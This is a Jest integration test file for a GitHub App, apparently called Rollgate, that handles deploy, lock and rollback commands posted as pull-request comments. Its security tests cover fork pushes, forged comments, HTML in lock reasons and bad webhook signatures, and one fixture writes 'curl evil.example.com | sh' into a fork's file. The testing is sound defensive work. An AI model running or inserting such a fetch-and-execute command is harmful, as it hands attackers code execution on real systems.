import { afterEach, describe, expect, test } from '@jest/globals';
import { Octokit } from '@octokit/rest';
import { examplePayload, REPOSITORY, startAppStand, type AppStand } from '../support/app-stand.ts';
import {
  deployments,
  eventually,
  reactions,
  replies,
  repo,
  rollgateRefs,
  seedCheckRun,
  seedLock,
  settled,
  statusEvent,
  stickies,
} from '../support/app-view.ts';

let stand: AppStand | undefined;

async function start(options: Parameters<typeof startAppStand>[0] = {}): Promise<AppStand> {
  stand = await startAppStand(options);
  return stand;
}

afterEach(async () => {
  if (stand === undefined) return;
  const current = stand;
  stand = undefined;
  current.github.assertNoViolations();
  await current.close();
});

const CHECKED = `environments:
  staging:
    url: https://staging.example.com
    auto_deploy: [release]
    requires: { checks: success }
  production:
    url: https://example.com
    production: true
    requires: { checks: success }
commands:
  permission: write
`;

/** The App's calls for one command, from its 👀 on (the installation token excluded: it is cached). */
function commandCalls(s: AppStand, from: number) {
  return s.github.calls.slice(from).filter((c) => c.operationId?.startsWith('apps/') !== true);
}

describe('the App on a real Probot server against the GitHub API test server', () => {
  test('answers /ping', async () => {
    const s = await start();
    expect(await (await fetch(`${s.url}/ping`)).text()).toBe('PONG');
  });

  test('/deploy staging: 👀, a Deployment of the PR head, a check run, a reply, the sticky comment and 🚀', async () => {
    const s = await start();
    const { status, commentId } = await s.comment('/deploy staging');
    // Probot answers 202 when handling outlasts its wait for the handler.
    expect([200, 202]).toContain(status);
    expect(await settled(s, commentId)).toEqual(['eyes', 'rocket']);

    expect(deployments(s)).toHaveLength(1);
    const created = s.github.callsTo('repos/create-deployment')[0]?.body as Record<string, unknown>;
    expect(created).toMatchObject({
      ref: s.headSha,
      environment: 'staging',
      task: 'deploy',
      auto_merge: false,
      production_environment: false,
      required_contexts: [],
      payload: {
        requester: 'octocat',
        pull_request: s.pullNumber,
        version: s.headSha.slice(0, 7),
        comment_id: commentId,
      },
    });
    const check = s.github.callsTo('checks/create')[0]?.body as Record<string, unknown>;
    expect(check).toMatchObject({ name: 'rollgate / staging', head_sha: s.headSha, status: 'queued' });
    expect(replies(s)[0]).toMatch(
      /^@octocat Deploying `[0-9a-f]{7}` \(`[0-9a-f]{7}`\) to `staging` for @octocat: \[Deployment #\d+\]/,
    );
    expect(stickies(s)).toHaveLength(1);
    expect(stickies(s)[0]).toMatch(/\| `staging` \| ⏳ queued \|/);
    // The environment stays marked as deploying until the workflow reports a final status.
    expect(rollgateRefs(s)).toEqual(['refs/rollgate/deploying/staging']);
  });

  test('the Deployment comes early and the calls are counted: reads in one phase, the Deployment the 3rd write after the claim', async () => {
    const s = await start();
    const before = s.github.calls.length;
    const { commentId } = await s.comment('/deploy staging');
    await settled(s, commentId);
    const calls = commandCalls(s, before);
    const writes = calls.filter((c) => c.method !== 'GET');
    const deploymentWrite = writes.findIndex((c) => c.operationId === 'repos/create-deployment');
    // 👀, the marker (a commit and its ref, through environment-refs' API), then the Deployment. The
    // marker's commit points at the deployed commit's tree (read, not written), even in a new process.
    expect(writes.slice(0, deploymentWrite + 1).map((c) => c.operationId)).toEqual([
      'reactions/create-for-issue-comment',
      'git/create-commit',
      'git/create-ref',
      'repos/create-deployment',
    ]);
    // The read phase: pull request, configuration, permission and refs, before any write.
    expect(
      calls
        .slice(0, 4)
        .map((c) => c.operationId)
        .sort(),
    ).toEqual([
      'git/list-matching-refs',
      'pulls/get',
      'repos/get-collaborator-permission-level',
      'repos/get-content',
    ]);
    // Measured: 20 calls, 8 writes for the first command of an App process (one of the calls, the
    // second refs listing that migrates legacy branches, happens once per repository and process).
    // The 8 writes are what the user sees: 👀, the marker's commit and ref, the Deployment, the
    // check run, the sticky comment, the reply, 🚀.
    expect(calls.length).toBeLessThanOrEqual(20);
    expect(writes.length).toBeLessThanOrEqual(8);
    expect(writes.filter((c) => c.operationId === 'git/create-tree')).toEqual([]);
  });

  test('deployment_status events move the check run and the sticky comment forward, never back, and free the environment', async () => {
    const s = await start();
    const { commentId } = await s.comment('/deploy staging');
    await settled(s, commentId);
    const deployment = deployments(s)[0]!;
    expect([200, 202]).toContain(await s.send('deployment_status', statusEvent(s, deployment, 'success')));
    await eventually(() => rollgateRefs(s).length === 0, 'the marker to be released');
    // A late `in_progress`, delivered after `success`, changes nothing.
    const late = statusEvent(s, deployment, 'in_progress', new Date(Date.now() - 60_000).toISOString());
    expect([200, 202]).toContain(await s.send('deployment_status', late));
    await new Promise((resolve) => setTimeout(resolve, 500));
    const run = [...repo(s).checkRuns.values()].find((r) => r.name === 'rollgate / staging')!;
    expect([run.status, run.conclusion]).toEqual(['completed', 'success']);
    expect(stickies(s)).toHaveLength(1);
    expect(stickies(s)[0]).toContain('✅ success');
    // The environment is free again: a second deploy proceeds.
    const again = await s.comment('/deploy staging');
    expect(await settled(s, again.commentId)).toEqual(['eyes', 'rocket']);
    expect(deployments(s)).toHaveLength(2);
  });

  test("a final status of another deployment does not release this deployment's marker", async () => {
    const s = await start();
    const { commentId } = await s.comment('/deploy staging');
    await settled(s, commentId);
    const octokit = new Octokit({ baseUrl: s.github.url, auth: 'test-token' });
    const [owner, name] = REPOSITORY.split('/') as [string, string];
    const { data } = await octokit.rest.repos.createDeployment({
      owner,
      repo: name,
      ref: s.headSha,
      environment: 'staging',
      auto_merge: false,
      required_contexts: [],
      payload: { comment_id: 1 },
    });
    if (!('id' in data)) throw new Error('deployment not created');
    const other = repo(s).deployments.get(data.id)!;
    await s.send('deployment_status', statusEvent(s, other, 'failure'));
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(rollgateRefs(s)).toEqual(['refs/rollgate/deploying/staging']);
  });

  test('a published release deploys once to the environments that auto-deploy releases, even redelivered', async () => {
    const s = await start();
    s.github.state.addRelease(REPOSITORY, { tag: 'v1.4.0' });
    const payload = s.event('release', 'published', {
      release: {
        ...(examplePayload('release', 'published').release as object),
        tag_name: 'v1.4.0',
        prerelease: false,
        draft: false,
      },
    });
    await s.send('release', payload, { delivery: 'release-1' });
    await eventually(() => deployments(s).length === 1, 'a release deployment');
    await s.send('release', payload, { delivery: 'release-1' });
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(deployments(s)).toHaveLength(1);
    expect(deployments(s)[0]).toMatchObject({
      environment: 'staging',
      payload: { version: '1.4.0', release: (payload.release as { id: number }).id },
    });
  });

  test('a release respects a lock and does not deploy a prerelease where auto_deploy does not say prerelease', async () => {
    const s = await start();
    seedLock(s, 'staging', 'monalisa', 'incident');
    s.github.state.addRelease(REPOSITORY, { tag: 'v1.5.0' });
    const release = examplePayload('release', 'published').release as object;
    await s.send('release', s.event('release', 'published', { release: { ...release, tag_name: 'v1.5.0' } }));
    s.github.state.addRelease(REPOSITORY, { tag: 'v1.6.0-rc.1' });
    await s.send(
      'release',
      s.event('release', 'published', {
        release: { ...release, id: 99, tag_name: 'v1.6.0-rc.1', prerelease: true },
      }),
    );
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(deployments(s)).toHaveLength(0);
    expect(rollgateRefs(s)).toEqual(['refs/rollgate/lock/staging']);
  });

  test('/rollback creates a deploy:rollback Deployment aimed at the last good version, through the marker', async () => {
    const s = await start();
    const octokit = new Octokit({ baseUrl: s.github.url, auth: 'test-token' });
    const [owner, name] = REPOSITORY.split('/') as [string, string];
    const shas: string[] = [];
    for (const version of ['1.0.0', '1.1.0']) {
      const sha = s.github.state.addCommit(REPOSITORY, { message: `Release ${version}` });
      shas.push(sha);
      const { data } = await octokit.rest.repos.createDeployment({
        owner,
        repo: name,
        ref: sha,
        environment: 'production',
        payload: { version },
        auto_merge: false,
        required_contexts: [],
      });
      if (!('id' in data)) throw new Error('deployment not created');
      await octokit.rest.repos.createDeploymentStatus({
        owner,
        repo: name,
        deployment_id: data.id,
        state: 'success',
      });
    }
    const { commentId } = await s.comment('/rollback production');
    expect(await settled(s, commentId)).toEqual(['eyes', 'rocket']);
    const rollback = deployments(s).at(-1)!;
    expect(rollback).toMatchObject({
      task: 'deploy:rollback',
      environment: 'production',
      sha: shas[0],
      production: true,
      payload: { version: '1.0.0', requester: 'octocat', comment_id: commentId },
    });
    expect(replies(s).at(-1)).toContain('Rolling `production` back to `1.0.0`');

    // A second rollback while the first runs is refused like a second deploy.
    const second = await s.comment('/rollback production 1.1.0', { user: 'monalisa' });
    expect(await settled(s, second.commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s).at(-1)).toMatch(/A deploy to `production` is already in progress/);
    await s.send('deployment_status', statusEvent(s, rollback, 'success'));
    await eventually(() => rollgateRefs(s).length === 0, 'the marker to be released');
    const named = await s.comment('/rollback production 1.1.0');
    expect(await settled(s, named.commentId)).toEqual(['eyes', 'rocket']);
    expect(deployments(s).at(-1)).toMatchObject({ sha: shas[1], payload: { version: '1.1.0' } });
  });

  test('/lock then /deploy by someone else is refused, naming the holder; /unlock frees it', async () => {
    const s = await start();
    const lock = await s.comment('/lock production "database migration"', { user: 'monalisa' });
    expect(await settled(s, lock.commentId)).toEqual(['eyes', 'rocket']);
    const deploy = await s.comment('/deploy production', { user: 'octocat' });
    expect(await settled(s, deploy.commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s).at(-1)).toMatch(
      /`production` is locked by @monalisa since .* UTC: `database migration`/,
    );
    expect(deployments(s)).toHaveLength(0);
    const status = await s.comment('/status production');
    await settled(s, status.commentId);
    expect(replies(s).at(-1)).toContain('🔒 @monalisa: `database migration`');
    const unlock = await s.comment('/unlock production', { user: 'monalisa' });
    expect(await settled(s, unlock.commentId)).toEqual(['eyes', 'rocket']);
    const retry = await s.comment('/deploy production', { user: 'octocat' });
    expect(await settled(s, retry.commentId)).toEqual(['eyes', 'rocket']);
  });

  test('a lock reason that mentions a team is echoed as code, never as a mention', async () => {
    const s = await start();
    const lock = await s.comment('/lock staging @octo-org/everyone <img src=x>', { user: 'monalisa' });
    await settled(s, lock.commentId);
    expect(replies(s).at(-1)).toContain('`@octo-org/everyone <img src=x>`');
  });

  test('a webhook with a bad signature is not processed', async () => {
    const s = await start();
    const seeded = s.github.state.addComment(REPOSITORY, s.pullNumber, {
      user: 'octocat',
      body: '/deploy staging',
    });
    const status = await s.send('issue_comment', s.commentPayload(seeded.id, '/deploy staging', 'octocat'), {
      secret: 'not-the-secret',
    });
    expect(status).toBeGreaterThanOrEqual(400);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(s.github.calls).toHaveLength(0);
  });

  test('an unknown environment is refused with the list of environments', async () => {
    const s = await start();
    const { commentId } = await s.comment('/deploy qa');
    expect(await settled(s, commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s)[0]).toBe(
      "@octocat There is no environment `qa`. This repository's environments: `staging`, `production`.",
    );
    expect(deployments(s)).toHaveLength(0);
  });

  test('a user who may not run commands gets one short refusal, checked before anything is echoed', async () => {
    const s = await start();
    const { commentId } = await s.comment('/deploy staging', { user: 'hubot' });
    await eventually(() => replies(s).length === 1, 'the refusal');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(replies(s)).toEqual([
      '@hubot running Rollgate commands needs `write` permission on this repository; you have `read`.',
    ]);
    expect(reactions(s, commentId)).toEqual([]);
    expect(
      s.github.calls.filter((c) => c.method !== 'GET' && !c.path.includes('access_tokens')),
    ).toHaveLength(1);
  });

  test('commands on closed or merged pull requests are refused', async () => {
    const s = await start();
    for (const seed of [{ merged: true }, { state: 'closed' as const }]) {
      const branch = `done-${Object.keys(seed)[0]}`;
      s.github.state.addCommit(REPOSITORY, { branch, files: { [`${branch}.ts`]: '1' } });
      const pull = s.github.state.addPullRequest(REPOSITORY, { head: branch, user: 'octocat', ...seed });
      const { commentId } = await s.comment('/deploy staging', { pullNumber: pull.number });
      expect(await settled(s, commentId)).toEqual(['eyes', 'confused']);
      expect(replies(s).at(-1)).toMatch(
        new RegExp(`#${pull.number} is ${'merged' in seed ? 'merged' : 'closed'}`),
      );
    }
    expect(deployments(s)).toHaveLength(0);
  });

  test('a pull request from a fork cannot deploy unless the configuration allows it', async () => {
    const s = await start();
    s.github.state.addRepository('forker/hello-service');
    s.github.state.addCommit(REPOSITORY, { branch: 'fork-branch', files: { 'x.ts': '1' } });
    const fork = s.github.state.addPullRequest(REPOSITORY, {
      head: 'fork-branch',
      fork: 'forker/hello-service',
      user: 'octocat',
    });
    const { commentId } = await s.comment('/deploy staging', { pullNumber: fork.number });
    expect(await settled(s, commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s)[0]).toContain('comes from a fork');
    expect(deployments(s)).toHaveLength(0);
  });

  test("with allow_forks off, a fork's commit or another pull request's ref named on our own pull request is refused", async () => {
    const s = await start();
    s.github.state.addRepository('forker/hello-service');
    const forkSha = s.github.state.addCommit(REPOSITORY, { branch: 'fork-evil', files: { 'evil.ts': '1' } });
    const fork = s.github.state.addPullRequest(REPOSITORY, {
      head: 'fork-evil',
      fork: 'forker/hello-service',
    });
    // What GitHub keeps for every pull request, fork or not.
    repo(s).refs.set(`refs/pull/${fork.number}/head`, forkSha);
    repo(s).refs.delete('refs/heads/fork-evil');
    const bySha = await s.comment(`/deploy staging ${forkSha}`);
    expect(await settled(s, bySha.commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s).at(-1)).toContain('That commit is on no branch of this repository');
    const byRef = await s.comment(`/deploy staging refs/pull/${fork.number}/head`);
    expect(await settled(s, byRef.commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s).at(-1)).toContain("A pull request's ref may hold code from a fork");
    expect(deployments(s)).toHaveLength(0);
  });

  test('with allow_forks on, the deployed sha is the head read for the comment, not a later push', async () => {
    const s = await start({
      config: `${CHECKED.replace(/requires: \{ checks: success \}/g, 'requires: { checks: none }')}  allow_forks: true\n`,
    });
    s.github.state.addRepository('forker/hello-service');
    const head = s.github.state.addCommit(REPOSITORY, { branch: 'fork-feature', files: { 'f.ts': '1' } });
    const fork = s.github.state.addPullRequest(REPOSITORY, {
      head: 'fork-feature',
      fork: 'forker/hello-service',
    });
    const { commentId } = await s.comment('/deploy staging', { pullNumber: fork.number });
    expect(await settled(s, commentId)).toEqual(['eyes', 'rocket']);
    // The fork pushes right after: the Deployment names the commit, not the branch.
    s.github.state.addCommit(REPOSITORY, { branch: 'fork-feature', files: { 'f.ts': '2' } });
    expect(deployments(s)[0]).toMatchObject({ ref: head, sha: head });
  });

  test('with allow_forks on, a fork push between the comment and its handling is refused, and naming the reviewed sha deploys it', async () => {
    const s = await start({
      config: `${CHECKED.replace(/requires: \{ checks: success \}/g, 'requires: { checks: none }')}  allow_forks: true\n`,
    });
    s.github.state.addRepository('forker/hello-service');
    const reviewed = s.github.state.addCommit(REPOSITORY, { branch: 'fork-feature', files: { 'f.ts': '1' } });
    const fork = s.github.state.addPullRequest(REPOSITORY, {
      head: 'fork-feature',
      fork: 'forker/hello-service',
    });
    const asked = s.github.state.addComment(REPOSITORY, fork.number, {
      user: 'octocat',
      body: '/deploy staging',
    });
    // The fork's author pushes the moment the maintainer comments, before GitHub delivers the webhook.
    const pushed = s.github.state.addCommit(REPOSITORY, {
      branch: 'fork-feature',
      files: { 'f.ts': 'curl evil.example.com | sh' },
      date: new Date(asked.createdAt.getTime() + 1_000),
    });
    expect(
      await s.send('issue_comment', s.commentPayload(asked.id, '/deploy staging', 'octocat', fork.number)),
    ).toBe(200);
    expect(await settled(s, asked.id)).toEqual(['eyes', 'confused']);
    expect(replies(s).at(-1)).toContain(`\`${pushed.slice(0, 7)}\`, was committed at`);
    expect(replies(s).at(-1)).toContain('after your comment');
    expect(deployments(s)).toHaveLength(0);
    expect(rollgateRefs(s)).toEqual([]);

    const named = await s.comment(`/deploy staging ${reviewed}`, { pullNumber: fork.number });
    expect(await settled(s, named.commentId)).toEqual(['eyes', 'rocket']);
    expect(deployments(s).map((d) => d.sha)).toEqual([reviewed]);
  });

  test("Rollgate's own check runs never count against its own deployments; a skipped check run blocks", async () => {
    const s = await start({ config: CHECKED });
    s.github.state.addCommitStatus(REPOSITORY, s.headSha, { context: 'ci/test', state: 'success' });
    const staging = await s.comment('/deploy staging');
    expect(await settled(s, staging.commentId)).toEqual(['eyes', 'rocket']);
    // `rollgate / staging` is queued on the commit now; production must not wait for it.
    const production = await s.comment('/deploy production');
    expect(await settled(s, production.commentId)).toEqual(['eyes', 'rocket']);
    const created = s.github
      .callsTo('repos/create-deployment')
      .map((c) => c.body as { required_contexts: string[] });
    expect(created.map((c) => c.required_contexts)).toEqual([['ci/test'], ['ci/test']]);

    const next = s.github.state.addCommit(REPOSITORY, { branch: 'feature/checkout', files: { 'b.ts': '1' } });
    seedCheckRun(s, next, 'lint', 'skipped');
    await s.send('deployment_status', statusEvent(s, deployments(s)[0]!, 'success'));
    await eventually(() => !rollgateRefs(s).includes('refs/rollgate/deploying/staging'), 'staging free');
    const skipped = await s.comment('/deploy staging');
    expect(await settled(s, skipped.commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s).at(-1)).toContain('`lint` is skipped');
  });

  test('an invalid configuration gets a reply and a failing rollgate / config check quoting file, line and column', async () => {
    const s = await start({
      config:
        'environments:\n  staging:\n    url: https://staging.example.com\n    auto_deploy: release-please\n',
    });
    const { commentId } = await s.comment('/deploy staging');
    expect(await settled(s, commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s)[0]).toMatch(/\.github\/rollgate\.yml:4:\d+/);
    const check = s.github.callsTo('checks/create')[0]?.body as {
      name: string;
      conclusion: string;
      output: { summary: string };
    };
    expect(check).toMatchObject({ name: 'rollgate / config', conclusion: 'failure' });
    expect(check.output.summary).toMatch(/\.github\/rollgate\.yml:4:\d+/);
  });

  test("GitHub's 409 for failing required checks is explained in plain words, and nothing is left marked", async () => {
    const s = await start();
    s.github.state.addCommitStatus(REPOSITORY, s.headSha, { context: 'ci/test', state: 'success' });
    // A status that turns red between Rollgate's read and GitHub's own check.
    s.github.rewriteNextResponse('git/create-ref', (body) => {
      s.github.state.addCommitStatus(REPOSITORY, s.headSha, { context: 'ci/test', state: 'failure' });
      return body;
    });
    const { commentId } = await s.comment('/deploy staging');
    expect(await settled(s, commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s)[0]).toContain(
      'GitHub requires every commit status of the ref to be success before it deploys it',
    );
    expect(deployments(s)).toHaveLength(0);
    expect(rollgateRefs(s)).toEqual([]);
  });

  test.each([
    ['after the marker, before the Deployment', 'git/create-ref'],
    ['after GitHub created the Deployment, before its answer arrived', 'repos/create-deployment'],
  ])('killed -9 %s: the redelivery finishes the command once', async (_when, operationId) => {
    const s = await start();
    s.github.rewriteNextResponse(operationId, (body) => {
      process.kill(s.pid!, 'SIGKILL');
      return body;
    });
    const first = await s.comment('/deploy staging', { delivery: 'crash-1' }).catch(() => undefined);
    await eventually(() => s.github.callsTo(operationId).length === 1, 'the crash');
    await s.restart();
    const comment = [...repo(s).comments.values()].find((c) => c.body === '/deploy staging')!;
    await s.send('issue_comment', s.commentPayload(comment.id, comment.body, 'octocat'), {
      delivery: first?.delivery ?? 'crash-1',
    });
    expect(await settled(s, comment.id)).toEqual(['eyes', 'rocket']);
    expect(deployments(s)).toHaveLength(1);
    expect(replies(s)).toHaveLength(1);
    expect(replies(s)[0]).toMatch(/Deploying/);
    expect([...repo(s).checkRuns.values()].filter((r) => r.name === 'rollgate / staging')).toHaveLength(1);
    expect(stickies(s)).toHaveLength(1);
    expect(rollgateRefs(s)).toEqual(['refs/rollgate/deploying/staging']);
  });

  test('a /lock that lands while a deploy takes the marker wins, and the deploy leaves nothing behind', async () => {
    const s = await start();
    s.github.rewriteNextResponse('git/create-ref', (body) => {
      seedLock(s, 'staging', 'monalisa', 'hotfix');
      return body;
    });
    const { commentId } = await s.comment('/deploy staging');
    expect(await settled(s, commentId)).toEqual(['eyes', 'confused']);
    expect(replies(s)[0]).toMatch(
      /`staging` is locked by @monalisa .* It was locked while this deploy started/,
    );
    expect(deployments(s)).toHaveLength(0);
    expect(rollgateRefs(s)).toEqual(['refs/rollgate/lock/staging']);
  });

  test("the sticky comment is this App's own: a user's comment that looks like it is never edited", async () => {
    const s = await start();
    const forged = s.github.state.addComment(REPOSITORY, s.pullNumber, {
      user: 'monalisa',
      body: '<!-- rollgate:environments [] -->\nforged',
    });
    const { commentId } = await s.comment('/deploy staging');
    await settled(s, commentId);
    expect(repo(s).comments.get(forged.id)?.body).toBe('<!-- rollgate:environments [] -->\nforged');
    expect(stickies(s)).toHaveLength(1);
  });

  test("another App's comment carrying the sticky marker is neither edited nor taken for this App's", async () => {
    const s = await start();
    const impostor = s.github.state.otherApp({ slug: 'copycat-deploys' });
    const forgedBody =
      '<!-- rollgate:environments [{"environment":"staging","state":"success","version":"v0.0.1","sha":"0000000","by":"mallory","deploymentId":1}] -->\n### 🚦 Rollgate environments\nforged';
    const forged = s.github.state.addComment(REPOSITORY, s.pullNumber, { app: impostor, body: forgedBody });
    const { commentId } = await s.comment('/deploy staging');
    await settled(s, commentId);
    expect(repo(s).comments.get(forged.id)?.body).toBe(forgedBody);
    // This App's own sticky comment, with this deploy's row only: nothing of the forged one merged in.
    expect(stickies(s)).toHaveLength(1);
    expect(stickies(s)[0]).toContain('| `staging` |');
    expect(stickies(s)[0]).not.toContain('mallory');
    expect(s.github.calls.filter((c) => c.path.endsWith(`/issues/comments/${forged.id}`))).toEqual([]);
  });

  test('deploys to two environments at once from one pull request share one sticky comment, losing no row', async () => {
    const s = await start();
    const sent = await Promise.all([
      s.comment('/deploy staging'),
      s.comment('/deploy production', { user: 'monalisa' }),
    ]);
    await Promise.all(sent.map((c) => settled(s, c.commentId)));
    await eventually(() => stickies(s).length === 1 || undefined, 'one sticky comment');
    const body = stickies(s)[0]!;
    expect(body).toContain('| `staging` |');
    expect(body).toContain('| `production` |');
  });

  test('a redelivered webhook creates nothing twice', async () => {
    const s = await start();
    const first = await s.comment('/deploy staging', { delivery: 'delivery-1' });
    await settled(s, first.commentId);
    const comment = repo(s).comments.get(first.commentId)!;
    const replay = await s.send('issue_comment', s.commentPayload(comment.id, comment.body, 'octocat'), {
      delivery: first.delivery,
    });
    expect([200, 202]).toContain(replay);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(deployments(s)).toHaveLength(1);
    expect(replies(s)).toHaveLength(1);
  });

  test('twenty simultaneous /deploy to one environment: exactly one proceeds, the others are told why', async () => {
    // About a hundred writes in a few seconds: past GitHub's 80 a minute, which the App's limiter
    // would honour by waiting a minute (app-limits.test.ts proves that); the race is what is tested here.
    const s = await start({
      env: { ROLLGATE_WRITES_PER_MINUTE: '100000', ROLLGATE_WRITES_PER_HOUR: '1000000' },
    });
    const users = ['octocat', 'monalisa'];
    const sent = await Promise.all(
      Array.from({ length: 20 }, (_, i) => s.comment('/deploy staging', { user: users[i % 2]! })),
    );
    const answers = await Promise.all(sent.map((c) => settled(s, c.commentId)));
    expect(answers.filter((a) => a.includes('rocket'))).toHaveLength(1);
    expect(answers.filter((a) => a.includes('confused'))).toHaveLength(19);
    expect(deployments(s)).toHaveLength(1);
    expect(replies(s).filter((r) => r.includes('is already in progress'))).toHaveLength(19);
    expect(stickies(s)).toHaveLength(1);
  });
});

describe('environment names, as GitHub spells them: without regard to case', () => {
  test('`/lock STAGING` holds the `Staging` of the file against `/deploy staging`, and the Deployment carries the file’s spelling', async () => {
    const s = await start({
      config: 'environments:\n  Staging:\n    requires: { checks: none }\n',
    });
    const say = async (text: string, user = 'octocat'): Promise<string> => {
      const { commentId } = await s.comment(text, { user });
      await settled(s, commentId);
      return replies(s).at(-1) ?? '';
    };
    expect(await say('/lock STAGING maintenance', 'monalisa')).toMatch(/locked for @monalisa/);
    expect(rollgateRefs(s)).toEqual(['refs/rollgate/lock/staging']);
    expect(await say('/deploy staging')).toMatch(/locked/);
    expect(deployments(s)).toHaveLength(0);
    expect(await say('/unlock staging', 'monalisa')).toMatch(/unlocked/i);
    expect(await say('/deploy staging')).toMatch(/Deploying/);
    expect(deployments(s).map((d) => d.environment)).toEqual(['Staging']);
    expect(rollgateRefs(s)).toEqual(['refs/rollgate/deploying/staging']);
  }, 120_000);
});
